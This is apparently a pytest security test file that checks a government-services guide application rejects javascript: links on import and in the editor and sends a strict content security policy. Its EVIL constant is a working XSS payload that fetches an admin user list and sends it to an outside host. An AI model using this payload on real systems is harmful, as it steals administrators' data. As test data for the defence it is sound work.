"""Finding 5: guide links are web addresses only (https://, http:// when allowed), checked on
import and in the editor; the chat page runs only its own script (a strict CSP)."""

from __future__ import annotations

from pathlib import Path

import yaml

from tests.admin.forms import form_fields, post_form, replace
from tests.conftest import SAMPLES
from tests.security.conftest import ADMIN, EDITOR, chat_session, logged_in, make_client, onetrip

SAMPLE = "jk-ggcs-weisheng-xuke"
SAMPLE_FILE = SAMPLES / "shichang-zhunru" / f"{SAMPLE}.yaml"
EVIL = "javascript:fetch('/admin/users').then(r=>r.text()).then(t=>location='//x/?'+t)"


def _guide_file(folder: Path, online_url: str) -> Path:
    data = yaml.safe_load(SAMPLE_FILE.read_text(encoding="utf-8"))
    data["online_url"] = online_url
    path = folder / f"{SAMPLE}.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_import_refuses_a_javascript_link(instance, tmp_path):
    done = onetrip(instance, "kb", "import", str(_guide_file(tmp_path, EVIL)))
    assert done.returncode == 1
    assert "online_url" in done.stderr and "https://" in done.stderr


def test_import_takes_http_only_when_the_setting_allows_it(instance, tmp_path):
    path = _guide_file(tmp_path, "http://zwfw.example.gov.cn/item/x")
    assert onetrip(instance, "kb", "import", str(path)).returncode == 1
    allowed = onetrip(instance, "kb", "import", str(path), env={"ONETRIP_ALLOW_HTTP_LINKS": "true"})
    assert allowed.returncode == 0, allowed.stderr


def test_the_editor_refuses_a_javascript_link(instance):
    editor = logged_in(make_client(), EDITOR)
    page = editor.get(f"/admin/guides/{SAMPLE}")
    fields = replace(form_fields(page.text, f"/admin/guides/{SAMPLE}"), "online_url", EVIL)
    response = post_form(editor, f"/admin/guides/{SAMPLE}", fields)
    assert response.status_code == 400 and "https://" in response.text
    admin = logged_in(make_client(), ADMIN)
    assert "javascript:" not in admin.get(f"/admin/guides/{SAMPLE}/yaml").text


def test_the_workbench_import_refuses_a_javascript_link(instance, tmp_path):
    admin = logged_in(make_client(), ADMIN)
    page = admin.get("/admin/transfer")
    fields = form_fields(page.text, "/admin/transfer/import")
    data = _guide_file(tmp_path, EVIL).read_bytes()
    response = admin.post(
        "/admin/transfer/import",
        data=dict(fields),
        files=[("files", (f"{SAMPLE}.yaml", data, "application/x-yaml"))],
    )
    assert "https://" in response.text and "online_url" in response.text
    assert "javascript:" not in admin.get(f"/admin/guides/{SAMPLE}/yaml").text


def test_a_stored_javascript_link_is_never_shown(instance):
    """A database written before this check may still hold one: the chat drops it."""
    from knowledge import Store, load_guides

    guide = load_guides([SAMPLE_FILE]).guides[0][1].model_copy(update={"online_url": EVIL})
    Store.from_url(f"sqlite:///{instance / 'onetrip.db'}").import_guides([guide], "old-version")
    client = make_client()
    citizen = chat_session(client)
    reply = client.post("/api/v1/chat", json={"text": "公共场所卫生许可"}, headers=citizen)
    body = reply.json()
    assert body["card"] and body["card"]["id"] == SAMPLE
    assert body["card"]["online_url"] is None
    assert "javascript:" not in reply.text


def test_the_chat_page_has_a_strict_content_security_policy(instance):
    page = make_client().get("/")
    assert page.status_code == 200
    policy = page.headers.get("content-security-policy", "")
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives.get("script-src") == ["'self'"], policy
    assert "'none'" in directives.get("frame-ancestors", []) and "object-src" in directives
    assert page.headers.get("x-content-type-options") == "nosniff"
